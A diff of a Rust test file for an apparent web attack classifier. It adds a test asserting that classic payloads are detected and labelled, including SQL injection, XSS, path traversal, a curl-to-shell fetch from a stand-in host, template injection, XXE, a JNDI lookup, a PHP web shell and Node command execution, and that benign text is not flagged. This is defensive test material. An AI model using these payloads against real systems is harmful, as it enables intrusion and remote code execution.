@@ -24,6 +24,48 @@ fn the_shipped_model_is_whole_and_scores_as_where_it_was_made() {
 }
 
 #[test]
+fn the_shipped_model_knows_attacks_from_what_people_write() {
+    let classifier = Classifier::shipped();
+    let mut scratch = Scratch::default();
+    let mut judge = |text: &str| {
+        let score = classifier.score(Field::of_value(text.as_bytes()), text.as_bytes(), &mut scratch);
+        let class = classifier.class(text.as_bytes(), &score, &mut scratch);
+        (score.one_in >= 1e3, class, score)
+    };
+    for (text, class) in [
+        ("' or 1=1-- -", "sql_injection"),
+        ("1' union/**/select null,version()#", "sql_injection"),
+        ("<svg/onload=alert(1)>", "xss"),
+        ("../../../../etc/passwd", "path_traversal"),
+        (";cat$ifs/etc/passwd", "command_injection"),
+        ("`curl http://x.example/a|sh`", "command_injection"),
+        ("{{''.__class__.__mro__[1].__subclasses__()}}", "template_injection"),
+        ("<!doctype a [<!entity x system \"file:///etc/passwd\">]>", "xxe"),
+        ("${${lower:j}ndi:ldap://x.example/a}", "lookup_injection"),
+        ("<?php system($_get['c']); ?>", "php_injection"),
+        ("require('child_process').execsync('id')", "node_injection"),
+    ] {
+        let (found, called, score) = judge(text);
+        assert!(found && called == class, "{text}: {called} {score:?}");
+    }
+    for text in [
+        "o'brien",
+        "d'artagnan & sons",
+        "select from the menu or drop by our office, and we will update the table",
+        "how to join two tables in sql",
+        "rock & roll; it's only 5 < 6",
+        "https://www.example.org/a/b?c=d&e=f#g",
+        "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36",
+        "the script of the play, and an alert reader",
+        "<p>some <b>bold</b> words</p>",
+        "c++ or java?",
+    ] {
+        let (found, called, score) = judge(text);
+        assert!(!found, "{text}: {called} {score:?}");
+    }
+}
+
+#[test]
 fn a_file_is_read_back_and_refused_where_it_should_be() {
     let mut model = Model::empty(7);
     model.manifest = "a list  3 rows\n".to_owned();
@@ -58,10 +100,10 @@ fn padding_hides_nothing_and_the_span_is_the_payload() {
         let score = classifier.score(Field::Text, text.as_bytes(), &mut scratch);
         assert!(score.points > 1_000, "{before}: {}", score.points);
         assert!(text[score.window.clone()].contains("/etc/passwd"));
-        let spans = classifier.explain(Field::Text, text.as_bytes(), &mut scratch);
+        let spans = classifier.explain(-20, text.as_bytes(), &mut scratch);
         assert!(spans.iter().any(|s| text[s.clone()].contains("/etc/passwd")), "{spans:?}");
     }
-    assert!(classifier.explain(Field::Text, b"nothing to see here", &mut scratch).is_empty());
+    assert!(classifier.explain(-20, b"nothing to see here", &mut scratch).is_empty());
 }
 
 #[test]
@@ -79,7 +121,7 @@ proptest! {
         let score = classifier.score(Field::Query, &plain, &mut scratch);
         prop_assert!(score.window.start <= score.window.end && score.window.end <= plain.len());
         prop_assert!(score.one_in >= 1.0);
-        for span in classifier.explain(Field::Query, &plain, &mut scratch) {
+        for span in classifier.explain(-50, &plain, &mut scratch) {
             prop_assert!(span.start < span.end && span.end <= plain.len());
         }
         // The scratch of another text changes nothing.
